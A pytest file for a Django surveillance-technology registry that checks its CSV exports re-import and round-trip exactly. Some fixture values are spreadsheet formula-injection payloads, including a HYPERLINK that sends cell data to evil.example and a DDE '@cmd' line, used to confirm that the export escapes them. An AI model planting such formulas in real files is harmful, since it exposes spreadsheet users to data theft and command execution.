"""The CSV exports, imported into an empty database, export to the same bytes: ids, public
addresses, slugs, the contracts and NDAs covering each deployment and the sources included,
all read through the views."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from apps.contracts.models import Contract, Nda
from apps.deployments.models import Deployment
from apps.vendors.models import Vendor
from tests.factories import (
    AgencyFactory,
    ContractFactory,
    DeploymentFactory,
    NdaFactory,
    ProductFactory,
    SourceFactory,
    VendorFactory,
    technology,
)
from tests.importing.helpers import (
    contract_row,
    empty_the_registry,
    export,
    import_data,
    write_csv,
)

pytestmark = pytest.mark.django_db


def round_trip(client, tmp_path, kinds, query=""):
    """Export each kind, empty the database, import them in order, export again."""
    first = {kind: export(client, kind, query) for kind in kinds}
    empty_the_registry()
    for kind in kinds:
        path = tmp_path / f"{kind}.csv"
        path.write_text(first[kind], encoding="utf-8")
        import_data(kind, path)
    return first, {kind: export(client, kind, query) for kind in kinds}


def test_export_imports_into_an_empty_database_and_exports_identically(client, tmp_path):
    empty_the_registry()  # ids from 1, as in the database the import goes into
    shared = SourceFactory(url="https://news.example.org/shared", title="Shared | report")
    sheriff = AgencyFactory(
        name="Washington County Sheriff's Office",
        kind="sheriff",
        ori="OR0340000",
        locality="Hillsboro",
        latitude="45.522900",
        longitude="-122.989800",
    )
    cloud = VendorFactory(name="Cloud, Inc. “Vision”")
    covered = DeploymentFactory(
        agency=sheriff,
        product=ProductFactory(vendor=cloud, name="Rekognition"),
        summary='=HYPERLINK("https://evil.example/?"&A2,"x") says "low cost",\nünïcödé.',
        public_input="no",
        use_policy="unknown",
        sources=[SourceFactory(url="https://z.example.org/late", publisher="+1+1"), shared],
    )
    DeploymentFactory(
        agency=AgencyFactory(name="Orlando Police Department", region="FL"),
        product=None,
        vendor=cloud,
        status="pilot",
        start_date=datetime.date(2017, 12, 1),
        start_date_precision="month",
        end_date=datetime.date(2018, 6, 25),
        end_date_precision="day",
        summary="'@SUM(A1)",
        sources=[shared, SourceFactory(publication_date=None, publication_date_precision="")],
    )
    DeploymentFactory(
        technology=technology("drones"),
        product=None,
        vendor=None,
        start_date=None,
        start_date_precision="",
        status="proposed",
        summary="-1+2",
    )
    nda = NdaFactory(agency=sheriff, counterparty_vendor=cloud)
    contract = ContractFactory(agency=sheriff, vendor=cloud)
    contract.deployments.add(covered)

    # Deployments first: they describe the agencies in full (coordinates), the others do not,
    # and a contract's deployment_ids name them.
    first, again = round_trip(client, tmp_path, ["deployments", "contracts", "ndas"])

    assert Deployment.objects.count() == 3
    assert again == first
    text = first["deployments"]
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert len(rows) == 3  # one row per deployment, whatever its number of sources
    row = rows[str(covered.pk)]
    assert row["url"] == f"http://testserver/deployments/{covered.pk}/"
    assert (row["agency_slug"], row["vendor_slug"]) == (sheriff.slug, cloud.slug)
    assert (row["contract_ids"], row["nda_ids"]) == (str(contract.pk), str(nda.pk))
    assert row["source_urls"] == "https://news.example.org/shared | https://z.example.org/late"
    assert row["source_titles"].startswith("Shared || report | Records show")
    assert row["source_publishers"] == "Example Gazette | +1+1"  # only a cell's start counts
    assert row["summary"].startswith("'=HYPERLINK(")
    assert row["longitude"] == "-122.989800"  # a plain number is not a formula
    assert ",''@SUM(A1)," in text  # a leading ' is escaped too, so the import can undo it
    assert ",'-1+2," in text
    assert Deployment.objects.get(agency__name="Orlando Police Department").summary == ("'@SUM(A1)")
    assert Deployment.objects.get(technology__slug="drones").summary == "-1+2"


def test_filtered_export_round_trips_too(client, tmp_path):
    empty_the_registry()
    DeploymentFactory.create_batch(2, agency=AgencyFactory(region="FL"))
    DeploymentFactory.create_batch(3, agency=AgencyFactory(region="OR"))
    # The Oregon deployments are numbered 3 to 5: the import keeps their order, not the ids.
    first = export(client, "deployments", "region=OR")
    empty_the_registry()
    path = tmp_path / "oregon.csv"
    path.write_text(first, encoding="utf-8")
    import_data("deployments", path)
    assert Deployment.objects.count() == 3
    assert sorted(Deployment.objects.values_list("pk", flat=True)) == [1, 2, 3]
    again = export(client, "deployments", "region=OR")
    # Only the ids and addresses differ: the other ids were never in this database.
    assert without_ids(again) == without_ids(first)


def without_ids(text):
    return [row[2:] for row in csv.reader(io.StringIO(text))]


def test_contracts_and_ndas_round_trip_through_their_views(client, tmp_path):
    empty_the_registry()
    aws = VendorFactory(name="Amazon Web Services")
    sheriff = AgencyFactory(name="Washington County Sheriff's Office", ori="OR0340000")
    contract = ContractFactory(
        agency=sheriff,
        vendor=aws,
        summary="@cmd|' /C calc'!A0",
        sources=[SourceFactory(), SourceFactory(title="Title with | a bar")],
    )
    contract.products.set([ProductFactory(vendor=aws, name="S3")])
    NdaFactory(agency=sheriff, counterparty_vendor=aws, scope="+scope")
    NdaFactory(
        agency=AgencyFactory(),
        counterparty_vendor=None,
        counterparty_agency=AgencyFactory(name="Federal Bureau of Example", region=""),
    )

    first, again = round_trip(client, tmp_path, ["contracts", "ndas"])

    assert again == first
    assert len(first["contracts"].splitlines()) == 2
    assert len(first["ndas"].splitlines()) == 3
    assert Vendor.objects.get(name="Amazon Web Services").contracts.get().summary == (
        "@cmd|' /C calc'!A0"
    )


def test_a_contracts_deployment_ids_link_only_this_agencys_deployments(client, tmp_path):
    sheriff = AgencyFactory()
    ours, theirs = DeploymentFactory(agency=sheriff), DeploymentFactory()
    contract = ContractFactory(agency=sheriff)
    contract.deployments.add(ours)
    exported = export(client, "contracts")
    assert f",{ours.pk}," in exported
    path = tmp_path / "contracts.csv"
    # As if the file came from a database where the contract also paid for deployment
    # #<theirs>, which here is another agency's, and for #999999, which is nobody's.
    path.write_text(
        exported.replace(f",{ours.pk},", f",{ours.pk} | {theirs.pk} | 999999,"), encoding="utf-8"
    )
    contract.deployments.clear()

    output = import_data("contracts", path)

    assert list(contract.deployments.all()) == [ours]
    assert (
        f"line 2: deployment_ids: no deployment of {sheriff} has the id #{theirs.pk}, #999999 "
        "here; not linked to the contract."
    ) in output


@pytest.fixture
def twins():
    """Records the site lets you make twice with the same natural key: two contracts of one
    agency, vendor, title and signed date with other amounts (made on /contracts/new/), two
    deployments of one agency, technology, product and start date (one made twice from a
    tip), two NDAs of one agency, counterparty and date; and a record after each pair."""
    empty_the_registry()
    sheriff = AgencyFactory(name="Washington County Sheriff's Office", ori="OR0340000")
    aws = VendorFactory(name="Amazon Web Services")
    rekognition = ProductFactory(vendor=aws, name="Rekognition")
    deployments = [
        DeploymentFactory(agency=sheriff, product=rekognition, summary="First report."),
        DeploymentFactory(
            agency=sheriff, product=rekognition, status="pilot", summary="Second report."
        ),
        DeploymentFactory(
            agency=sheriff, product=rekognition, start_date=datetime.date(2019, 1, 1)
        ),
    ]
    contracts = [
        ContractFactory(agency=sheriff, vendor=aws, title="Rekognition", identifier="", **money)
        for money in ({"amount": "6000.00"}, {"amount": "9000.00", "currency": "CAD"}, {})
    ]
    contracts[2].title = "Another contract"
    contracts[2].save()
    contracts[1].deployments.add(deployments[1])
    for scope in ("Pricing.", "Capabilities."):
        NdaFactory(agency=sheriff, counterparty_vendor=aws, scope=scope)
    return deployments, contracts


def test_records_with_the_same_natural_key_round_trip_apart(client, tmp_path, twins):
    first, again = round_trip(client, tmp_path, ["deployments", "contracts", "ndas"])

    assert again == first
    assert [len(text.splitlines()) for text in first.values()] == [4, 4, 3]
    deployments, contracts = twins
    assert list(Deployment.objects.order_by("pk").values_list("summary", flat=True)) == [
        deployment.summary for deployment in deployments
    ]
    assert list(Contract.objects.order_by("pk").values_list("amount", "currency")) == [
        (Decimal("6000.00"), "USD"),
        (Decimal("9000.00"), "CAD"),
        (Decimal("12000.00"), "USD"),
    ]


def test_importing_an_export_again_pairs_each_row_with_its_own_record(client, tmp_path, twins):
    first, _again = round_trip(client, tmp_path, ["deployments", "contracts", "ndas"])
    before = {kind: export(client, kind) for kind in first}

    outputs = []
    for kind, text in first.items():
        path = tmp_path / f"again-{kind}.csv"
        path.write_text(text, encoding="utf-8")
        outputs.append(import_data(kind, path))

    assert {kind: export(client, kind) for kind in first} == before
    assert (Deployment.objects.count(), Contract.objects.count(), Nda.objects.count()) == (3, 3, 2)
    assert outputs[0].splitlines()[1] == (
        "Deployments: 0 created, 3 matched, 3 rows skipped (nothing new)"
    )
    assert outputs[1].splitlines()[1] == (
        "Contracts: 0 created, 3 matched, 3 rows skipped (nothing new)"
    )
    assert outputs[2].splitlines()[1] == "NDAs: 0 created, 2 matched, 2 rows skipped (nothing new)"
    assert not any("as stored" in output for output in outputs)


def test_the_row_per_source_layout_still_writes_one_record_over_several_rows(tmp_path):
    """Without an id column, rows with the same natural key are one record's sources."""
    empty_the_registry()
    path = write_csv(
        tmp_path,
        [
            contract_row(identifier=""),
            contract_row(identifier="", source_url="https://records.example.org/second"),
        ],
        kind="contracts",
    )

    output = import_data("contracts", path)

    contract = Contract.objects.get()
    assert contract.sources.count() == 2
    assert "Contracts: 1 created, 0 matched, 0 rows skipped" in output
